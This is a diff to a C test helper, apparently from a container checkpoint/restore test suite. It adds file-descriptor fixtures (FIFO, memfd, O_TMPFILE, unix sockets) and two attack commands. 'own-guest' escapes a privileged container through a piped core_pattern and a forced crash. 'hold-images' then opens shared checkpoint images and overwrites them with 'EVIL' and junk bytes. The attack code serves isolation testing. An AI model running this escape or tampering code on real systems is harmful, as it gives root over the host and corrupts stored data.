@@ -48,7 +48,36 @@
  *                               ms (default 10) sends SIGKILL to every process
  *                               it may signal (kill(-1)); prints
  *                               "kill-all: OK" or the errno name at each change
+ *   payload files DIR [KEEP-CWD] every kind of file CRIU meets, held open:
+ *                               fd 3 the FIFO DIR/fifo with "fifo-data\n" in
+ *                               it, fd 4 a memfd and fd 5 an O_TMPFILE in
+ *                               DIR (64 KiB of pseudo-random bytes each,
+ *                               offset 1234), fd 6 a unix socket listening
+ *                               on DIR/sock, fds 7 and 8 a connected pair
+ *                               through it with "ping\n" in flight each way;
+ *                               the working directory DIR/gone, removed
+ *                               (unless KEEP-CWD). Prints "files: NAME: ERROR"
+ *                               for what the filesystem refuses, then
+ *                               "files: ready", then answers each connection on
+ *                               fd 6 with "pong\n"; once DIR/check exists,
+ *                               reads the pair and prints "pair: ok" or
+ *                               "pair: BAD ..."
+ *   payload unix-connect PATH   sends "ping\n" to the socket PATH, prints
+ *                               the answer
+ *   payload own-guest           (a privileged container) takes the guest's
+ *                               root: core_pattern runs "payload hold-images"
+ *                               as root in the guest's own namespaces when a
+ *                               child crashes; prints "own-guest: OK" once
+ *                               that helper logs to /hold.log
+ *   payload hold-images PID     that helper: opens every file that appears in
+ *                               the guest's checkpoints share, keeps the
+ *                               handles, and once /go exists in the
+ *                               container's root writes through each (at 0
+ *                               and 4 MiB past its end, three times), logging
+ *                               to /hold.log there: "opened NAME", "wrote N
+ *                               bytes", "done"
  */
+#include <dirent.h>
 #include <errno.h>
 #include <sys/shm.h>
 #include <pthread.h>
@@ -69,6 +98,7 @@
 #include <sys/syscall.h>
 #include <sys/sysmacros.h>
 #include <sys/socket.h>
+#include <sys/un.h>
 #include <sys/wait.h>
 #include <time.h>
 #include <unistd.h>
@@ -577,6 +607,269 @@ static int __attribute__((noreturn)) cmd_kill_all(int argc, char **argv)
 	}
 }
 
+/* ---- files: every kind of file CRIU meets (issue 17, case 2) ---- */
+
+static void fill_random(int fd, size_t bytes, uint32_t seed)
+{
+	char buf[4096];
+	for (size_t done = 0; done < bytes; done += sizeof(buf)) {
+		for (size_t i = 0; i < sizeof(buf); i++) {
+			seed = seed * 1103515245u + 12345u;
+			buf[i] = (char)(seed >> 16);
+		}
+		if (write(fd, buf, sizeof(buf)) != (ssize_t)sizeof(buf))
+			return;
+	}
+}
+
+static bool read_line_is(int fd, const char *want)
+{
+	char buf[32] = "";
+	size_t n = 0, len = strlen(want);
+	while (n < len) {
+		ssize_t r = read(fd, buf + n, len - n);
+		if (r <= 0)
+			return false;
+		n += (size_t)r;
+	}
+	return memcmp(buf, want, len) == 0;
+}
+
+static int unix_listen_on(const char *path)
+{
+	struct sockaddr_un sa = {.sun_family = AF_UNIX};
+	snprintf(sa.sun_path, sizeof(sa.sun_path), "%s", path);
+	int fd = socket(AF_UNIX, SOCK_STREAM, 0);
+	if (fd < 0 || bind(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0 || listen(fd, 8) < 0)
+		return -1;
+	return fd;
+}
+
+static int unix_connect_to(const char *path)
+{
+	struct sockaddr_un sa = {.sun_family = AF_UNIX};
+	snprintf(sa.sun_path, sizeof(sa.sun_path), "%s", path);
+	int fd = socket(AF_UNIX, SOCK_STREAM, 0);
+	if (fd < 0 || connect(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0)
+		return -1;
+	return fd;
+}
+
+/* Puts FD at number WANT (the test reads /proc/1/fd/WANT). */
+static bool place(int fd, int want, const char *what)
+{
+	if (fd < 0 || dup2(fd, want) < 0) {
+		printf("files: %s: %s\n", what, strerror(errno));
+		return false;
+	}
+	if (fd != want)
+		close(fd);
+	return true;
+}
+
+static int cmd_files(int argc, char **argv)
+{
+	if (argc < 3)
+		return 2;
+	const char *dir = argv[2];
+	char path[256], gone[256], check[256];
+	bool ok = true;
+	for (int fd = 3; fd < 9; fd++)
+		close(fd);
+	snprintf(path, sizeof(path), "%s/fifo", dir);
+	unlink(path);
+	if (mkfifo(path, 0600) < 0)
+		printf("files: fifo: %s\n", strerror(errno)), ok = false;
+	else if (place(open(path, O_RDWR), 3, "fifo") && write(3, "fifo-data\n", 10) != 10)
+		ok = false;
+	int memfd = memfd_create("cocoon-memfd", 0);
+	if (place(memfd, 4, "memfd")) {
+		fill_random(4, 65536, 4);
+		lseek(4, 1234, SEEK_SET);
+	}
+	if (place(open(dir, O_TMPFILE | O_RDWR, 0600), 5, "tmpfile")) {
+		fill_random(5, 65536, 5);
+		lseek(5, 1234, SEEK_SET);
+	} else {
+		ok = false;
+	}
+	snprintf(path, sizeof(path), "%s/sock", dir);
+	unlink(path);
+	if (!place(unix_listen_on(path), 6, "unix listen") ||
+	    !place(unix_connect_to(path), 7, "unix connect") ||
+	    !place(accept(6, NULL, NULL), 8, "accept") || write(7, "ping\n", 5) != 5 ||
+	    write(8, "ping\n", 5) != 5)
+		ok = false;
+	snprintf(gone, sizeof(gone), "%s/gone", dir);
+	if (argc < 4 && (mkdir(gone, 0700) < 0 || chdir(gone) < 0 || rmdir(gone) < 0))
+		printf("files: cwd: %s\n", strerror(errno)), ok = false;
+	printf("files: ready%s\n", ok ? "" : " (with the errors above)");
+	fflush(stdout);
+	snprintf(check, sizeof(check), "%s/check", dir);
+	bool checked = false;
+	for (;;) {
+		struct pollfd p = {.fd = 6, .events = POLLIN};
+		if (poll(&p, 1, 200) > 0) {
+			int c = accept(6, NULL, NULL);
+			if (c >= 0 && read_line_is(c, "ping\n") && write(c, "pong\n", 5) == 5)
+				printf("unix: answered\n");
+			if (c >= 0)
+				close(c);
+			fflush(stdout);
+		}
+		if (!checked && access(check, F_OK) == 0) {
+			bool a = read_line_is(7, "ping\n"), b = read_line_is(8, "ping\n");
+			printf("pair: %s\n", a && b ? "ok" : "BAD");
+			fflush(stdout);
+			checked = true;
+		}
+	}
+}
+
+static int cmd_unix_connect(int argc, char **argv)
+{
+	char buf[64];
+	int fd = argc > 2 ? unix_connect_to(argv[2]) : -1;
+	if (fd < 0 || write(fd, "ping\n", 5) != 5) {
+		printf("unix-connect: %s\n", strerror(errno));
+		return 1;
+	}
+	ssize_t n = read(fd, buf, sizeof(buf) - 1);
+	buf[n > 0 ? n : 0] = 0;
+	printf("%s", buf);
+	return 0;
+}
+
+/* The classic way out of a privileged container: a core_pattern pipe
+ * helper runs as root in the initial namespaces (kernel/umh.c), here the
+ * guest's, with the agent's root. */
+static int cmd_own_guest(void)
+{
+	const char *pattern = "|/proc/%P/root/bin/payload hold-images %P";
+	int fd = open("/proc/sys/kernel/core_pattern", O_WRONLY | O_CLOEXEC);
+	if (fd < 0 || write(fd, pattern, strlen(pattern)) < 0) {
+		printf("own-guest: core_pattern: %s\n", strerrorname_np(errno));
+		return 1;
+	}
+	close(fd);
+	pid_t pid = fork();
+	if (pid == 0) {
+		struct rlimit rl = {RLIM_INFINITY, RLIM_INFINITY};
+		setrlimit(RLIMIT_CORE, &rl);
+		signal(SIGSEGV, SIG_DFL);
+		kill(getpid(), SIGSEGV);
+		_exit(1);
+	}
+	waitpid(pid, NULL, 0);
+	for (int i = 0; i < 300; i++) {
+		if (access("/hold.log", F_OK) == 0) {
+			printf("own-guest: OK\n");
+			fflush(stdout);
+			return 0;
+		}
+		sleep_ms(100);
+	}
+	printf("own-guest: no helper ran\n");
+	return 1;
+}
+
+struct held_image {
+	char path[512];
+	int fd;
+	off_t size;
+};
+
+static void hold_scan(const char *base, struct held_image *held, int *n, int max)
+{
+	DIR *d = opendir(base);
+	struct dirent *de;
+	while (d && (de = readdir(d))) {
+		char dir[300];
+		if (de->d_name[0] == '.')
+			continue;
+		snprintf(dir, sizeof(dir), "%s/%s", base, de->d_name);
+		DIR *sub = opendir(dir);
+		struct dirent *fe;
+		while (sub && (fe = readdir(sub)) && *n < max) {
+			char path[512];
+			struct stat st;
+			bool have = false;
+			snprintf(path, sizeof(path), "%s/%s", dir, fe->d_name);
+			if (lstat(path, &st) < 0 || !S_ISREG(st.st_mode))
+				continue;
+			for (int i = 0; i < *n; i++)
+				have |= strcmp(held[i].path, path) == 0;
+			int fd = have ? -1 : open(path, O_RDWR | O_CLOEXEC);
+			if (fd < 0)
+				continue;
+			snprintf(held[*n].path, sizeof(held[*n].path), "%s", path);
+			held[*n].fd = fd;
+			held[(*n)++].size = st.st_size;
+			printf("opened %s\n", path);
+		}
+		if (sub)
+			closedir(sub);
+	}
+	if (d)
+		closedir(d);
+}
+
+static int cmd_hold_images(int argc, char **argv)
+{
+	char path[64];
+	static struct held_image held[256];
+	static char junk[1 << 20];
+	int n = 0;
+	snprintf(path, sizeof(path), "/proc/%s/root", argc > 2 ? argv[2] : "self");
+	/* A usermode helper may start without stdout or stderr: these two
+	 * stay out of the way of the dup2()s below. */
+	int root = fcntl(open(path, O_PATH | O_DIRECTORY | O_CLOEXEC), F_DUPFD_CLOEXEC, 10);
+	int log = root < 0 ? -1
+			   : openat(root, "hold.log", O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC,
+				    0644);
+	if (log < 0 || (log = fcntl(log, F_DUPFD_CLOEXEC, 10)) < 0)
+		return 1;
+	dup2(log, 1);
+	dup2(log, 2);
+	setvbuf(stdout, NULL, _IOLBF, 0);
+	/* The core dump is not read: its writer gets EPIPE and the crashed
+	 * child is gone. */
+	int null = open("/dev/null", O_RDONLY | O_CLOEXEC);
+	dup2(null >= 0 ? null : 1, 0);
+	printf("holding as uid %d\n", (int)getuid());
+	const char *base = access("/run/cocoon/shared", F_OK) == 0
+				   ? "/run/cocoon/shared/checkpoints"
+				   : "/proc/1/root/run/cocoon/shared/checkpoints";
+	for (long t = 0; faccessat(root, "go", F_OK, 0) < 0; t += 5) {
+		if (t > 15 * 60 * 1000)
+			return 1;
+		if (t % 5000 == 0)
+			printf("waiting for /go (%s), %d files held\n", strerrorname_np(errno), n);
+		hold_scan(base, held, &n, 256);
+		sleep_ms(5);
+	}
+	printf("held %d files\n", n);
+	memset(junk, 'E', sizeof(junk));
+	unsigned long long total = 0;
+	for (int round = 0; round < 3; round++) {
+		for (int i = 0; i < n; i++) {
+			if (pwrite(held[i].fd, "EVIL", 4, 0) == 4)
+				total += 4;
+			for (int k = 0; k < 4; k++) {
+				ssize_t w = pwrite(held[i].fd, junk, sizeof(junk),
+						   held[i].size + (off_t)(round * 4 + k) *
+									  (off_t)sizeof(junk));
+				if (w > 0)
+					total += (unsigned long long)w;
+			}
+		}
+		sleep_ms(200);
+	}
+	printf("wrote %llu bytes\n", total);
+	printf("done\n");
+	return 0;
+}
+
 int main(int argc, char **argv)
 {
 	const char *cmd = argc > 1 ? argv[1] : "";
@@ -656,6 +949,14 @@ int main(int argc, char **argv)
 		return cmd_escape(argc, argv);
 	if (strcmp(cmd, "kill-all") == 0)
 		return cmd_kill_all(argc, argv);
+	if (strcmp(cmd, "files") == 0)
+		return cmd_files(argc, argv);
+	if (strcmp(cmd, "unix-connect") == 0)
+		return cmd_unix_connect(argc, argv);
+	if (strcmp(cmd, "own-guest") == 0)
+		return cmd_own_guest();
+	if (strcmp(cmd, "hold-images") == 0)
+		return cmd_hold_images(argc, argv);
 	fprintf(stderr, "payload: unknown command '%s'\n", cmd);
 	return 2;
 }
